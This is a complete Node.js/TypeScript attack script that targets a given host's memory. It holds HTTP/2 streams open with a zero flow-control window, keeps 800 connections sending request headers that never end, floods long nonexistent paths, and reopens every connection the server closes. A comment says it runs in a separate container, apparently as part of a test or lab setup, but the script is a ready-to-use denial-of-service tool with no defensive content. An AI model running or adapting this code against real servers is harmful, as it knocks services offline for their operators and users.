import { once } from 'node:events';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/**
 * A client that makes a server use as much memory as possible. It runs in a separate container, so that the visitors have
 * other addresses. Prints `ready` when all connections are open. Opens those that the server closes again until it is stopped.
 *   node attack.ts HOST
 */

const [host = ''] = process.argv.slice(2);

/** Opens streams whose responses it never reads, because the flow-control window remains 0. */
async function unreadStreams(headers: http2.OutgoingHttpHeaders, connections = 6, streams = 128) {
  for (let connection = 0; connection < connections; connection += 1) {
    const session = http2.connect(`https://${host}:8443`, {
      settings: { initialWindowSize: 0 },
      rejectUnauthorized: false,
    });
    session.on('error', () => undefined);
    await once(session, 'remoteSettings');
    const open = () => {
      // The server ends a connection after 1,000 requests.
      if (session.closed || session.destroyed) return;
      const stream = session.request(headers);
      stream.on('error', () => undefined).on('close', open);
    };
    for (let stream = 0; stream < streams; stream += 1) open();
  }
}

/** Sends request headers that never end: 62 KB first, and 7.6 KB each time after the server has closed the connection. */
async function endlessHeaders(connections = 800) {
  const open = (size: number) => {
    const socket = net.connect({ host, port: 8080 }).on('error', () => undefined);
    const lines = Array.from({ length: 4 }, (_, line) => `X-${line}: ${'x'.repeat(size / 4)}\r\n`);
    socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n${lines.join('')}`);
    socket.resume().on('close', () => setTimeout(open, 100, 7600));
  };
  for (let connection = 0; connection < connections; connection += 1) {
    open(62_000);
    if (connection % 50 === 49) await delay(50);
  }
}

/** Requests long paths that do not exist, shorter ones if the server refuses `maxLength`. */
async function longPaths(count = 2500, maxLength = 15_000) {
  const agent = new https.Agent({ keepAlive: true, maxSockets: 8, rejectUnauthorized: false });
  const requestStatus = (id: number, length: number) =>
    new Promise<number>((resolve) => {
      https
        .get({ host, port: 8443, path: `/${id}-`.padEnd(length, 'x'), agent }, (response) => {
          response.resume().on('close', () => resolve(response.statusCode ?? 0));
        })
        .on('error', () => resolve(0));
    });
  const acceptedLength = (await requestStatus(0, maxLength)) === 200 ? maxLength : 7600;
  await Promise.all(Array.from({ length: count }, (_, index) => requestStatus(index + 1, acceptedLength)));
}

await unreadStreams({ ':path': '/images/member.png', 'accept-encoding': 'gzip' });
await endlessHeaders();
await longPaths();
await delay(1000);
console.log('ready');
setInterval(() => undefined, 1000);
